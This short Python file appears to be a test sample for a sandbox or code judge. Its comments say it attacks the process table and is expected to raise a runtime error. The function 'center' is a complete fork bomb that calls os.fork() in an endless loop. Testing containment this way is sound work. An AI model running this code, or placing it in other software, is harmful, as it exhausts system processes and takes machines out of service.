# RTE exception
# attacks: the process table
# needs: processes
import os


def center(x):
    while True:
        os.fork()
